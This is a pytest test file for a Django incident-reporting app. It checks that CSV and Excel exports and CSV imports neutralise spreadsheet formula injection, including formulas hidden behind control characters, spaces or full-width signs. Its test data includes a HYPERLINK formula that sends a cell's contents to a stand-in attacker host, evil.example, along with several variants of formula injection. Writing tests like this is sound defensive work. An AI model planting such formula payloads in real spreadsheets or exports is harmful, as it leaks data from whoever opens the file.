"""Issue 9, finding 6: no text reaches a spreadsheet as a formula, whatever it hides behind.

The old export neutralised first and stripped control characters afterwards, so a place of
``\\x01=HYPERLINK(...)`` came out of the Excel export as a live formula (also when it came in
through the CSV import). These tests read the actual cells back.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from situation_reports.models import Incident
from trygghet.spreadsheets import clean_text, safe_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")'

# What a text becomes in a cell: control characters gone, then one quote in front of anything a
# spreadsheet could take for a formula (also behind spaces, tabs, line breaks, or in full width).
CASES = {
    "\x01" + HYPERLINK: "'" + HYPERLINK,
    "\x01\x02\x1f=1+1": "'=1+1",
    " =1+1": "' =1+1",
    "   @SUM(A1:A9)": "'   @SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\n=1+1": "'\n=1+1",
    "\x0b\n +1": "'\n +1",
    "=1+1": "'=1+1",
    "+46 70 123 45 67": "'+46 70 123 45 67",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "＝1+1": "'＝1+1",
    "＋1": "'＋1",
    "－1": "'－1",
    "＠SUM(A1)": "'＠SUM(A1)",
    "\x01 \u3000＝HYPERLINK(x)": "' \u3000＝HYPERLINK(x)",
    "\u200b=1+1": "'\u200b=1+1",
    "Klotter på = skylten": "Klotter på = skylten",
    "Krossad ruta\nvid kiosken": "Krossad ruta\nvid kiosken",
}


@pytest.mark.parametrize(("text", "expected"), CASES.items())
def test_one_function_turns_every_text_into_a_safe_cell(text, expected):
    assert safe_cell(text) == expected


def test_numbers_and_empty_values_stay_what_they_are():
    assert safe_cell(-3) == -3
    assert safe_cell(55.6) == 55.6
    assert safe_cell(None) == ""
    assert clean_text("a\x00b\x7fc\td") == "abc\td"


def url(name, **kwargs):
    return reverse(f"situation_reports:{name}", kwargs={"municipality": "burlov", **kwargs})


@pytest.fixture
def hostile(burlov, make_incident, arlov):
    for text in CASES:
        make_incident(burlov, area=arlov, place=text[:200], description=text)
    return CASES


def text_cells_of_workbook(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def test_no_cell_of_the_excel_export_is_a_formula(login, coordinator, hostile):
    response = login(coordinator).get(url("incident-export", fmt="xlsx"))
    cells = text_cells_of_workbook(response.content)
    assert [c for c in cells if c.data_type == "f"] == []
    places = sorted(c.value for c in cells if c.column == 8)
    assert places == sorted(hostile.values())
    descriptions = sorted(c.value for c in cells if c.column == 11)
    assert descriptions == sorted(hostile.values())


def test_every_text_of_the_csv_export_is_neutralised(login, coordinator, hostile):
    response = login(coordinator).get(url("incident-export", fmt="csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert sorted(r[7] for r in rows) == sorted(hostile.values())
    assert sorted(r[10] for r in rows) == sorted(hostile.values())


def upload_rows(client, *rows):
    upload = io.StringIO()
    writer = csv.writer(upload, delimiter=";")
    writer.writerow(["datum", "kategori", "område", "plats", "beskrivning"])
    writer.writerows(rows)
    return client.post(
        url("incident-import"),
        {"file": SimpleUploadedFile("in.csv", upload.getvalue().encode(), content_type="text/csv")},
    )


def test_a_formula_that_comes_in_through_the_csv_import_goes_out_as_text(
    login, coordinator, categories, arlov
):
    client = login(coordinator)
    # The import trims each cell, so a formula behind spaces comes in at the start of the text.
    upload_rows(client, ["2026-05-02", "Klotter", "Arlöv", HYPERLINK, "   ＝1+1 på väggen"])
    client.post(url("incident-import-confirm"))
    incident = Incident.objects.get()
    assert (incident.place, incident.description) == (HYPERLINK, "＝1+1 på väggen")
    cells = text_cells_of_workbook(client.get(url("incident-export", fmt="xlsx")).content)
    assert [c for c in cells if c.data_type == "f"] == []
    assert {c.value for c in cells} >= {"'" + HYPERLINK, "'＝1+1 på väggen"}


def test_a_formula_behind_control_characters_is_refused_by_the_csv_import(
    login, coordinator, categories, arlov
):
    client = login(coordinator)
    preview = upload_rows(
        client, ["2026-05-02", "Klotter", "Arlöv", "\x01" + HYPERLINK, "Klotter"]
    ).context["preview"]
    assert preview.valid == [] and len(preview.invalid) == 1
    client.post(url("incident-import-confirm"))
    assert not Incident.objects.exists()
